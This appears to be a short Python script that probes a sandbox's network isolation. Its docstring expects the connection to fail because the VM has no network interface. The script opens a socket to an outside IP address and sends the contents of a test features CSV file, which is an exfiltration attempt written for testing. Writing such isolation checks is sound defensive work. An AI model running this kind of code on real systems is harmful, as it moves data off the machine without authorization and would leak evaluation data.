"""Tries to send the data out: the VM has no network interface."""
import socket

print("connecting out...", flush=True)
socket.create_connection(("198.51.100.7", 443), timeout=5).sendall(open("data/test_features.csv", "rb").read())
